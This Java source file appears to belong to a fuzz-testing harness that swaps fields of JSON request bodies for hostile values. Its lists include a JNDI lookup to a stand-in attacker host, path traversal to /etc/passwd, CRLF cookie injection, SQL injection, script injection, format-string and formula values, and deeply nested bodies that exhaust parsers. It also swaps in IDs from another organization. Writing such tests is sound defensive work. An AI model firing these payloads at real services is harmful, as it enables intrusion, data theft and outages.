package io.hexline.bootstrap.hostile;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;

/**
 * Hostile values, in places where good ones were.
 *
 * @param foreign what is in another organization
 */
record Poison(SampleValues foreign, Junk junk) {

    private static final ObjectMapper MAPPER = new ObjectMapper();

    private static final String MARK = "a place to poison";

    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "-1",
            "0.1",
            "1e308",
            "-1e308",
            "1e400",
            "9007199254740993",
            "99999999999999999999999999",
            "[]",
            "{}",
            "[null]",
            "[{}]",
            "[[[[\"a\"]]]]",
            "{\"id\":{\"id\":[]}}",
            "{\"a\":1,\"a\":2}");

    /** As they stand between the quotes of a JSON text. */
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\\u0000",
            "\\u0007\\u001b[2J",
            "\\ud800",
            "\\udc00\\ud800",
            "\\u202egpj.exe",
            "\\u0661\\u0662\\u0663",
            "../../../etc/passwd",
            "..%2f..%2f",
            "a\\r\\nSet-Cookie: stolen=1",
            "${jndi:ldap://evil.example/x}",
            "' OR '1'='1",
            "<script>alert(1)</script>",
            "%s%n%x",
            "=1+1",
            "+",
            "@",
            "a@",
            "@@example.com",
            "1e9",
            "-1",
            "2147483648",
            "99999999999999999999",
            "NaN",
            "null",
            "true",
            "Y2lzY29zcGFyazovL3VzL1BFT1BMRS8",
            "Y2lzY29zcGFyazovL3VzL0xPQ0FUSU9OL2E");

    /** The same body with so many of its places as they should not be; mostly single values, so that the rest is read. */
    String in(JsonNode body, int times) {
        JsonNode poisoned = body.deepCopy();
        List<String> values = new ArrayList<>();
        for (int time = 0; time < times; time++) {
            List<Place> places = new ArrayList<>();
            collect(poisoned, !junk.oneIn(6), places);
            if (!places.isEmpty()) {
                values.add(value(junk.of(places).replace(MARK + values.size())));
            }
        }
        String text = poisoned.toString();
        for (int index = 0; index < values.size(); index++) {
            text = text.replace("\"" + MARK + index + "\"", values.get(index));
        }
        return text;
    }

    private static void collect(JsonNode node, boolean single, List<Place> places) {
        node.properties().forEach(property -> places.add(new Place(node, property.getKey(), 0)));
        for (int index = 0; node.isArray() && index < node.size(); index++) {
            places.add(new Place(node, "", index));
        }
        places.removeIf(place -> single && place.value().isContainerNode());
        node.forEach(child -> collect(child, single, places));
    }

    /** Of a property or an element. */
    private record Place(JsonNode container, String key, int index) {

        JsonNode value() {
            return container.isArray() ? container.get(index) : container.get(key);
        }

        /** What was there. */
        String replace(String mark) {
            String good = value().toString();
            if (container instanceof ArrayNode array) {
                array.set(index, mark);
            } else {
                ((ObjectNode) container).put(key, mark);
            }
            return good;
        }
    }

    /** A hostile text, as it is. */
    String text() {
        return switch (junk.random().nextInt(8)) {
            case 0 -> "x".repeat(1 + junk.random().nextInt(5_000));
            case 1 -> foreignId();
            default -> decoded(junk.of(TEXTS));
        };
    }

    private static String decoded(String text) {
        try {
            return MAPPER.readTree("\"" + text + "\"").textValue();
        } catch (JsonProcessingException wrong) {
            throw new IllegalStateException(wrong);
        }
    }

    private String value(String good) {
        return switch (junk.random().nextInt(24)) {
            case 0 -> "{\"a\":".repeat(2_000) + "1" + "}".repeat(2_000);
            case 1 -> "[".repeat(20) + "]".repeat(20);
            case 2 -> "\"" + "x".repeat(20_000) + "\"";
            case 3, 4 -> "[" + good + "," + good + "]";
            case 5 -> "[" + (good + ",").repeat(150) + good + "]";
            case 6, 7, 8, 9 -> "\"" + foreignId() + "\"";
            case 10, 11, 12, 13, 14 -> junk.of(VALUES);
            default -> "\"" + junk.of(TEXTS) + "\"";
        };
    }

    private String foreignId() {
        return junk.of(List.of(
                foreign.organization(),
                junk.of(foreign.people()),
                junk.of(foreign.licenses()),
                junk.of(foreign.locations()),
                junk.of(foreign.numbers())));
    }
}
